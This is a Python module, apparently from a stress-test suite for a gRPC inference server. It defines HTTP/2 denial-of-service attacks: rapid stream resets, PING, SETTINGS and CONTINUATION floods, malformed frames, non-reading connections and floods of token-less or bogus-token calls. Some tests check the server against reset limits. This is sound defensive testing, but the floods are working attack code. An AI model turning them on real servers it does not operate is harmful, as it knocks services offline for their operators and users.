"""Attacks by rate: frames that cost their receiver more than their sender."""

import struct

import payloads
import wire
from plan import Target, attack, health

BATCH = 500
# Streams of one connection that a server may have to reset in a few seconds before it ends it.
MOST_RESETS = 20_000


def repeated(frame: bytes, count: int) -> list[bytes]:
    """Batches of a frame that depends on nothing."""
    return [frame * BATCH] * max(1, count // BATCH)


def streams(template: wire.Template, each, flags: int, count: int) -> list[bytes]:
    """Batches of calls, each on the next stream."""
    size = min(BATCH, count)
    return [template.streams(each, flags, 1 + 2 * at, size) for at in range(0, count, size)]


# === streams that end at once ===


@attack("resets", "100,000 calls in 5 s, each reset at once, no token", seconds=7)
def resets(t: Target) -> None:
    batches = streams(wire.Template(health()), wire.reset, 0, t.many(100_000))
    t.flood(batches, 2 * BATCH, 5)


@attack("resets-spread", "the same on 20 connections that are opened anew", seconds=7)
def resets_spread(t: Target) -> None:
    # No more on one than may be pending.
    batches = streams(wire.Template(health()), wire.reset, 0, 1000)
    for _ in range(t.many(100)):
        if t.left == 0:
            break
        t.flood(batches, 2 * BATCH, 0.05, again=0)
        t.connections[-1].close()


@attack("resets-caller", "20,000 whole calls of Detect in 5 s, each reset at once", caller=True, seconds=7)
def resets_caller(t: Target) -> None:
    body = wire.message(payloads.detect(payloads.small(3)))
    each = lambda stream: wire.frame(wire.DATA, wire.END_STREAM, stream, body) + wire.reset(stream)
    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"])
    t.flood(streams(wire.Template(fields), each, 0, t.many(20_000)), 3 * BATCH, 5)


@attack("resets-late", "5,000 whole calls of Detect, each reset once it is under way", caller=True, seconds=7)
def resets_late(t: Target) -> None:
    body = wire.message(payloads.detect(payloads.small(3)))
    template = wire.Template(wire.call(f"{payloads.VISION}Detect", t.tokens["evil"]))
    connection, size = t.connect(), 50
    for _ in range(t.many(100)):
        if t.left == 0 or connection.closed or connection.goaway is not None:
            break
        first = connection.next
        each = lambda stream: wire.frame(wire.DATA, wire.END_STREAM, stream, body)
        connection.write(template.streams(each, 0, first, size))
        connection.next += 2 * size
        wire.pump([connection], 0.02)
        connection.write(b"".join(wire.reset(stream) for stream in range(first, connection.next, 2)))
        t.sent(3 * size)
        wire.pump([connection], 0.03)


def broken(name: str, what: str, each, flags: int = 0, fields: list[tuple[str, str]] | None = None) -> None:
    """An attack by streams that the server has to reset."""

    @attack(f"made-reset-{name}", f"64,000 streams in 5 s that the server resets: {what}", seconds=7)
    def run(t: Target) -> None:
        template = wire.Template(fields or health())
        t.flood(streams(template, each, flags, t.many(64_000)), 2 * BATCH, 5)
        most = max(sum(connection.resets.values()) for connection in t.connections)
        t.notes["resets on one connection"] = most
        if most > MOST_RESETS:
            t.faults.append(f"the server reset {most} streams of one connection and did not end it, at most {MOST_RESETS}")


broken("window", "a window update of 0", lambda stream: wire.window_update(stream, 0))
broken("overflow", "a window beyond its most", lambda stream: wire.window_update(stream, wire.MOST_WINDOW))
broken(
    "priority",
    "a stream that depends on itself",
    lambda stream: wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream, 0)),
)
broken("length", "a priority of four bytes", lambda stream: wire.frame(wire.PRIORITY, 0, stream, bytes(4)))
broken("closed", "data after the end", lambda stream: wire.frame(wire.DATA, 0, stream, b"\0"), wire.END_STREAM)
broken(
    "content",
    "more data than content-length says",
    lambda stream: wire.frame(wire.DATA, wire.END_STREAM, stream, bytes(9)),
    fields=[*health(), ("content-length", "3")],
)
broken("malformed", "a header of a connection", lambda _: b"", fields=[*health(), ("connection", "close")])


# === frames on one connection ===


@attack("pings", "500,000 PINGs in 5 s", seconds=7)
def pings(t: Target) -> None:
    t.flood(repeated(wire.frame(wire.PING, 0, 0, bytes(8)), t.many(500_000)), BATCH, 5)


@attack("ping-answers", "500,000 answers to PINGs that nobody sent in 5 s", seconds=7)
def ping_answers(t: Target) -> None:
    t.flood(repeated(wire.frame(wire.PING, wire.ACK, 0, bytes(8)), t.many(500_000)), BATCH, 5)


@attack("settings", "200,000 SETTINGS in 5 s", seconds=7)
def settings(t: Target) -> None:
    t.flood(repeated(wire.settings(), t.many(200_000)), BATCH, 5)


@attack("priorities", "500,000 PRIORITY frames in 5 s", seconds=7)
def priorities(t: Target) -> None:
    ids = range(1, 2 * BATCH, 2)
    batch = b"".join(wire.frame(wire.PRIORITY, 0, i, struct.pack(">IB", 0, i % 256)) for i in ids)
    t.flood([batch] * max(1, t.many(500_000) // BATCH), BATCH, 5)


@attack("window-updates", "500,000 WINDOW_UPDATEs of one byte in 5 s", seconds=7)
def window_updates(t: Target) -> None:
    # Room for them is left by a small first window.
    t.flood(repeated(wire.window_update(0, 1), t.many(500_000)), BATCH, 5, window=0)


def on_stream(t: Target, frame, count: int, flags: int = wire.END_HEADERS) -> None:
    """Frames that follow the headers of one call."""
    head = wire.frame(wire.HEADERS, flags, 1, wire.block(health()))
    batches = repeated(frame(1), count)
    t.flood([head + batches[0], *batches[1:]], BATCH, 5)


@attack("empty-data", "500,000 empty DATA frames in 5 s", seconds=7)
def empty_data(t: Target) -> None:
    on_stream(t, lambda stream: wire.frame(wire.DATA, 0, stream), t.many(500_000))


@attack("tiny-data", "500,000 DATA frames of one byte in 5 s", seconds=7)
def tiny_data(t: Target) -> None:
    # Of messages of no bytes: a stream of such never has one too many.
    on_stream(t, lambda stream: wire.frame(wire.DATA, 0, stream, b"\0"), t.many(500_000))


@attack("empty-continuations", "500,000 empty CONTINUATIONs in 5 s", seconds=7)
def empty_continuations(t: Target) -> None:
    on_stream(t, lambda stream: wire.frame(wire.CONTINUATION, 0, stream), t.many(500_000), flags=0)


@attack("continuations", "100 MB of CONTINUATIONs without an end", seconds=7)
def continuations(t: Target) -> None:
    fill = wire.literal("x", "y" * 16_000)
    head = wire.frame(wire.HEADERS, 0, 1, wire.block(health()))
    batch = wire.frame(wire.CONTINUATION, 0, 1, fill) * 10
    t.flood([head + batch, *[batch] * t.many(625)], 10, 5)


@attack("unfinished-headers", "1000 connections, each with a block of headers of 60 KiB that never ends", seconds=8)
def unfinished_headers(t: Target) -> None:
    fill = wire.literal("x", "y" * 15_000)
    begun = wire.frame(wire.HEADERS, 0, 1, wire.block(health())) + wire.frame(wire.CONTINUATION, 0, 1, fill) * 4
    for connection in t.connects(t.many(1000)):
        connection.write(begun)
        t.sent(5, len(begun))
    t.hold()


@attack("protocol-errors", "3000 connections, each with another breach of the protocol", seconds=8)
def protocol_errors(t: Target) -> None:
    block = wire.block(health())
    both = wire.END_HEADERS | wire.END_STREAM
    breaches = [
        wire.frame(wire.DATA, 0, 0, b"\0"),
        wire.frame(wire.HEADERS, both, 2, block),
        wire.frame(wire.HEADERS, both, 1, b"\xff" * 20),
        wire.frame(wire.HEADERS, both, 1, block) * 2,
        wire.frame(wire.PUSH, wire.END_HEADERS, 1, bytes(4) + block),
        wire.frame(wire.SETTINGS, 0, 0, bytes(5)),
        wire.settings((wire.INITIAL_WINDOW, 1 << 31)),
        wire.settings((5, 1)),
        wire.window_update(0, 0),
        wire.window_update(0, wire.MOST_WINDOW) * 2,
        wire.frame(wire.PING, 0, 0, bytes(7)),
        wire.frame(wire.RESET, 0, 1, bytes(4)),
        wire.frame(wire.CONTINUATION, 0, 1, block),
        wire.frame(wire.GOAWAY, 0, 0, bytes(8)),
        b"\xff\xff\xff" + wire.frame(wire.DATA, 0, 1)[3:],
    ]
    for number in range(t.many(3000)):
        if t.left == 0:
            break
        for connection in t.connects(1):
            connection.write(breaches[number % len(breaches)])
            t.sent(1)
            wire.pump([connection], 0.001)
            connection.close()


# === calls ===


@attack("many-headers", "1000 headers a call of a byte each, up to 20,000 calls in 8 s")
def many_headers(t: Target) -> None:
    connection, size, left = t.connect().watch(), 50, t.many(20_000)
    plain = wire.block(health())
    first = plain + b"".join(wire.literal(f"x{index}", "", 0x40) for index in range(100))
    again = plain + bytes(0xBE + index % 60 for index in range(1000))
    flags = wire.END_HEADERS | wire.END_STREAM
    connection.write(wire.frame(wire.HEADERS, flags, connection.stream(), first))
    while left > 0 and t.left > 0 and not connection.closed:
        batch = b"".join(wire.frame(wire.HEADERS, flags, connection.stream(), again) for _ in range(size))
        connection.write(batch)
        connection.settle(range(connection.next - 2 * size, connection.next, 2), t.left)
        left -= size
        t.sent(size, len(batch))


@attack("connects", "100,000 CONNECTs with a body in 5 s", seconds=7)
def connects(t: Target) -> None:
    fields = [(":method", "CONNECT"), (":authority", "a"), ("content-length", "5")]
    t.flood(streams(wire.Template(fields), lambda _: b"", wire.END_STREAM, t.many(100_000)), BATCH, 5)


@attack("no-grpc", "100,000 requests in 5 s that are no gRPC", seconds=7)
def no_grpc(t: Target) -> None:
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")]
    t.flood(streams(wire.Template(fields), lambda _: b"", wire.END_STREAM, t.many(100_000)), BATCH, 5)


def calls(t: Target, fields: list[tuple[str, str]], body: bytes, connections: int, count: int) -> None:
    """Calls one after the other, as fast as answers come, a hundred at once on each connection; one that is closed is opened
    anew."""
    template = wire.Template(fields)
    flags = wire.END_STREAM if not body else 0
    each = lambda stream: wire.frame(wire.DATA, wire.END_STREAM, stream, body) if body else b""
    left, live, anew = count, list(t.connects(connections)), 1000
    while left > 0 and t.left > 0 and live:
        for connection in live:
            under_way = (connection.next - 1) // 2 - len(connection.answered)
            size = min(100 - under_way, left)
            if size >= min(50, left):
                connection.write(template.streams(each, flags, connection.next, size))
                connection.next += 2 * size
                left -= size
                t.sent(size)
        wire.pump(live, 0.005)
        live = [connection for connection in live if not connection.closed and connection.goaway is None]
        missing = min(connections - len(live), anew)
        live += t.connects(missing)
        anew -= missing
    t.notes["answered"] = sum(len(connection.answered) for connection in t.connections)


@attack("health-flood", "Health/Check without a token as fast as it is answered, up to 200,000 in 8 s")
def health_flood(t: Target) -> None:
    calls(t, health(), wire.message(b""), 8, t.many(200_000))


@attack("deaf", "20 connections that ask for health and for windows and read nothing at all")
def deaf(t: Target) -> None:
    body = wire.message(b"")
    each = lambda stream: wire.frame(wire.DATA, wire.END_STREAM, stream, body)
    pings = (wire.frame(wire.PING, 0, 0, bytes(8)) + wire.settings()) * BATCH
    for connection in t.connects(20):
        connection.deaf = True
        connection.write(wire.Template(health()).streams(each, 0, 1, t.many(1000)), 1)
        connection.write(wire.window_update(1, 0) + pings, 1)
        t.sent(t.many(1000) + 2 * BATCH)
    t.hold()


@attack("stranger-flood", "Detect without a token as fast as it is refused, up to 200,000 in 8 s")
def stranger_flood(t: Target) -> None:
    body = wire.message(payloads.detect(payloads.small(1)))
    calls(t, wire.call(f"{payloads.VISION}Detect"), body, 8, t.many(200_000))


@attack("token-flood", "Detect with tokens of 8 KiB that nobody gave, up to 50,000 in 8 s")
def token_flood(t: Target) -> None:
    fields = wire.call(f"{payloads.VISION}Detect", "x" * 3500)
    calls(t, fields, wire.message(b""), 8, t.many(50_000))


@attack("metadata-flood", "ServerMetadata with a token as fast as it is answered, up to 200,000 in 8 s", caller=True)
def metadata_flood(t: Target) -> None:
    fields = wire.call("/inference.GRPCInferenceService/ServerMetadata", t.tokens["evil"])
    calls(t, fields, wire.message(b""), 8, t.many(200_000))


@attack("deadlines", "Detect with a deadline of a nanosecond, up to 50,000 in 8 s", caller=True)
def deadlines(t: Target) -> None:
    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"], ("grpc-timeout", "1n"))
    calls(t, fields, wire.message(payloads.detect(payloads.small(2))), 8, t.many(50_000))


@attack("unknown-methods", "20,000 methods that there are not, among those that are open to all")
def unknown_methods(t: Target) -> None:
    connection, size = t.connect().watch(), 100
    for number in range(t.many(200)):
        ids = range(connection.next, connection.next + 2 * size, 2)
        paths = (f"{payloads.HEALTH}M{number}-{stream}" for stream in ids)
        flags = wire.END_HEADERS | wire.END_STREAM
        batch = (wire.frame(wire.HEADERS, flags, i, wire.block(wire.call(path))) for i, path in zip(ids, paths))
        connection.next += 2 * size
        if t.left == 0 or not connection.write(b"".join(batch)):
            break
        t.sent(size)
        wire.pump([connection], 0.02)
    t.hold()
